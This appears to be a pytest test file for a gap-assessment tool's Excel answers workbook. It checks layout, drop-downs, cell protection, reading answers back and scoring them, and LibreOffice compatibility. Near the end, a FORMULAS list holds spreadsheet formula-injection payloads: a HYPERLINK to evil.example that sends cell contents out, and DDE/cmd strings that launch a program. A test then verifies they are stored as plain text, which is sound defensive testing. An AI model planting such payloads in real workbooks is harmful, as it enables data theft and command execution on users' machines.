"""The answers workbook: layout, drop-downs, protection, and the round trip through score."""

from __future__ import annotations

import shutil
import subprocess
from datetime import date

import pytest
from openpyxl import load_workbook

from gapassess.domain.answers import Answer
from gapassess.domain.answers_file import read_answers
from gapassess.domain.engine import OrgProfile, assess
from gapassess.domain.scoring_model import default_scoring_model
from gapassess.domain.workbook import TEMPLATE_COLUMNS, write_template
from tests.test_scoring_factories import small_bank

COLUMNS = [name for name, _, _ in TEMPLATE_COLUMNS]
FILLED = [
    Answer("4.1-context", 3, 2, evidence="Context review 2027", owner="Ana"),
    Answer("4.2-parties", 1, None, notes="Only customers listed"),
    Answer("5.1.1-quality-culture", 0, 4),
    Answer("8.3.1-design", None, None, not_applicable=True, justification="No design work"),
]


def _column(name: str) -> int:
    return COLUMNS.index(name) + 1


def _fill(path, answers):
    workbook = load_workbook(path)
    sheet = workbook["Answers"]
    rows = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    for answer in answers:
        row = rows[answer.item_id]
        values = {"compliance": answer.compliance, "outcome": answer.outcome,
                  "not_applicable": "yes" if answer.not_applicable else None,
                  "justification": answer.justification or None,
                  "evidence": answer.evidence or None, "notes": answer.notes or None,
                  "owner": answer.owner or None}
        for name, value in values.items():
            sheet.cell(row=row, column=_column(name), value=value)
    workbook.save(path)


def test_layout_drop_downs_and_protection(tmp_path):
    bank = small_bank()
    path = write_template(bank, tmp_path / "answers.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Instructions", "Answers", "Scales"]
    sheet = workbook["Answers"]
    assert [c.value for c in sheet[1]] == COLUMNS
    assert [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)] == [
        i.id for i in bank.items]
    assert sheet.cell(row=2, column=_column("question")).value == bank.items[0].question
    assert sheet.cell(row=2, column=_column("title")).value == bank.items[0].title
    assert sheet.cell(row=2, column=_column("title")).protection.locked
    assert sheet.protection.sheet
    assert sheet.cell(row=2, column=_column("item_id")).protection.locked
    assert sheet.cell(row=2, column=_column("question")).protection.locked
    for name in ("compliance", "outcome", "justification", "evidence", "notes", "owner"):
        assert not sheet.cell(row=2, column=_column(name)).protection.locked
    design_row = 2 + [i.id for i in bank.items].index("8.3.1-design")
    assert not sheet.cell(row=design_row, column=_column("not_applicable")).protection.locked
    assert sheet.cell(row=2, column=_column("not_applicable")).protection.locked
    formulas = {dv.formula1: str(dv.sqref) for dv in sheet.data_validations.dataValidation}
    last = len(bank.items) + 1
    assert formulas['"0,1,2,3,4"'] == f"G2:G{last} H2:H{last}"
    assert formulas['"yes,no"'] == f"I{design_row}"
    scales = [row for row in workbook["Scales"].iter_rows(min_row=2, values_only=True)]
    assert len(scales) == 10 and scales[3][:3] == ("compliance", 3, "Implemented")


def test_filled_workbook_is_read_back_and_scores_the_same(tmp_path):
    bank = small_bank()
    path = write_template(bank, tmp_path / "answers.xlsx")
    assert read_answers(path, bank) == []
    _fill(path, FILLED)
    assert read_answers(path, bank) == FILLED
    profile = OrgProfile(start_date=date(2027, 1, 4))
    assert assess(bank, read_answers(path, bank), default_scoring_model(),
                  profile=profile).to_dict() == \
        assess(bank, FILLED, default_scoring_model(), profile=profile).to_dict()


def test_prefilled_template_carries_existing_answers(tmp_path):
    bank = small_bank()
    path = write_template(bank, tmp_path / "answers.xlsx", answers=FILLED)
    assert read_answers(path, bank) == FILLED


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_workbook_saved_by_libreoffice_is_accepted(tmp_path):
    bank = small_bank()
    path = write_template(bank, tmp_path / "answers.xlsx")
    _fill(path, FILLED)
    out = tmp_path / "libreoffice"
    out.mkdir()
    profile = (tmp_path / "profile").as_uri()
    run = subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", "xlsx",
         "--outdir", str(out), str(path)],
        capture_output=True, text=True, timeout=300)
    saved = out / "answers.xlsx"
    if not saved.exists() and "could not be loaded" in run.stdout + run.stderr:
        pytest.skip("soffice is installed without its spreadsheet component (Calc)")
    assert saved.exists(), run.stdout + run.stderr
    assert read_answers(saved, bank) == FILLED
    workbook = load_workbook(saved)
    assert workbook["Answers"].protection.sheet


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0",
            '=DDE("cmd";"/C calc";"x")', "+1+1", "-2+3", "@SUM(A1)"]


def test_answer_text_is_written_as_text_never_as_a_formula(tmp_path):
    import zipfile

    bank = small_bank()
    hostile = [Answer("4.1-context", 2, 2, evidence=FORMULAS[0], notes=FORMULAS[1],
                      owner=FORMULAS[3]),
               Answer("4.2-parties", 1, 1, evidence=FORMULAS[2], notes=FORMULAS[4],
                      owner=FORMULAS[5])]
    path = write_template(bank, tmp_path / "answers.xlsx", answers=hostile)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)
    assert read_answers(path, bank) == hostile  # the text comes back exactly


def test_characters_a_workbook_cannot_hold_are_dropped_not_a_failure(tmp_path):
    bank = small_bank()
    answer = Answer("4.1-context", 2, 2, evidence="bell\x07 and\x01 null\x00 end")
    path = write_template(bank, tmp_path / "answers.xlsx", answers=[answer])
    sheet = load_workbook(path)["Answers"]
    assert sheet.cell(row=2, column=_column("evidence")).value == "bell and null end"
